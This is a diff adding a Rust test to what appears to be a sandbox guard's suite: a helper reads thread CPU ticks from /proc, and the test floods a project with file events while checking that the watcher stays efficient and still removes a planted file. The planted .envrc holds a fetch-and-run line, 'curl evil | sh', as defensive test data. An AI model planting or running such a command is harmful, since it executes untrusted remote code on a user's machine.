@@ -298,3 +298,65 @@ print(\"refused=%d\" % n)",
         );
     }
 }
+
+/// CPU time (user + system, in clock ticks) of the thread of `pid` named
+/// `name`, if it is running.
+fn thread_ticks(pid: u32, name: &str) -> Option<u64> {
+    for t in std::fs::read_dir(format!("/proc/{pid}/task")).ok()? {
+        let t = t.ok()?.path();
+        if std::fs::read_to_string(t.join("comm")).ok()?.trim() != name {
+            continue;
+        }
+        let stat = std::fs::read_to_string(t.join("stat")).ok()?;
+        // Fields after the command name (which may hold spaces): utime and
+        // stime are fields 14 and 15, i.e. 12th and 13th after ")".
+        let rest = stat.rsplit_once(')')?.1;
+        let f: Vec<&str> = rest.split_whitespace().collect();
+        return Some(f.get(11)?.parse::<u64>().ok()? + f.get(12)?.parse::<u64>().ok()?);
+    }
+    None
+}
+
+/// The sandbox creates and deletes files in the project without pause, an
+/// inotify event each: the watcher must not burn a CPU of the supervisor
+/// in step with it, and must still move aside what is planted meanwhile.
+#[test]
+fn an_event_storm_does_not_spin_the_watcher() {
+    for mode in modes() {
+        let env = Env::new(mode);
+        env.own();
+        let storm = common::py(
+            "import os, time
+end = time.time() + 4
+n = 0
+while time.time() < end:
+    p = \"f%d\" % (n % 50)
+    open(p, \"w\").close()
+    os.unlink(p)
+    n += 1
+    if n == 20000:
+        open(\".envrc\", \"w\").write(\"curl evil | sh\\n\")
+print(\"ops=%d\" % n)
+print(\"envrc=%s\" % (\"present\" if os.path.exists(\".envrc\") else \"gone\"))",
+        );
+        let child = env
+            .guard(&["run", "--", "sh", "-c", &storm])
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(3700));
+        let ticks = thread_ticks(child.id(), "guard-protect");
+        let out = common::Outcome::from(child.wait_with_output().unwrap());
+        out.expect_code(0);
+        let ops: u64 = out.field("ops").and_then(|n| n.parse().ok()).unwrap_or(0);
+        assert!(ops > 20000, "no storm: {}", out.all());
+        let ticks = ticks.expect("the watcher thread was running");
+        // ~3 s of watching a storm: measured 3.2 s of CPU before the fix,
+        // 0.1 s after. Half a second leaves room for a loaded machine.
+        assert!(ticks < 50, "watcher used {ticks} ticks: {}", out.all());
+        // Still watching: the file planted mid-storm went during the run.
+        assert_eq!(out.field("envrc").as_deref(), Some("gone"), "{}", out.all());
+        assert!(!env.project.join(".envrc").exists());
+    }
+}
